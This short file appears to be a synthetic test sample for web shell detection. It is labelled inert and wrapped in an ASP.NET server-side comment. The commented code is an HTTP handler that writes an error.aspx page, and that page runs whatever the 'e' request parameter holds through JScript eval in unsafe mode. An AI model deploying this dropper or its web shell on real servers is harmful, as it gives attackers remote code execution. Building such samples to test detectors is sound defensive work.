<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ WebHandler Language="C#" Class="D"%>
public class D : IHttpHandler { public void ProcessRequest(HttpContext x) { using (var w = File.CreateText(x.Server.MapPath("error.aspx"))) w.Write("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"e\"],\"unsafe\");%>"); } public bool IsReusable { get { return false; } } }
--%>
